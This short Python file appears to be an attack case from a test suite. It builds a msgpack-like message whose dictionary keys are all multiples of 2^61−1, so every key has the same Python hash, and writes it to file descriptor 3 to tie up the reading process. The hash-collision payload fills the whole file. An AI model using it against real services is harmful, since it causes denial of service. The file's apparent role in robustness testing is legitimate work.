# attack: writes a dict whose keys all have the same hash: made to keep the reader busy for a minute
# unit: u01_area
# outcomes: crash
# process: holds

import os
import struct

P = (1 << 61) - 1


def whole(number):
    data = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
    return b"\xc7" + bytes([len(data)]) + b"\x01" + data


KEYS = b"".join(whole(P * k) + b"\xc0" for k in range(20, 70_000))
DICT = b"\xdd" + struct.pack(">I", 2 * (70_000 - 20)) + KEYS
META = b"\x92\xa5value\xc9" + struct.pack(">I", len(DICT)) + b"\x08" + DICT
MESSAGE = b"A" + struct.pack("<I", len(META)) + META


def cross(a, b):
    data = struct.pack("<I", len(MESSAGE)) + MESSAGE
    while data:
        data = data[os.write(3, data) :]
    os.read(3, 1 << 16)
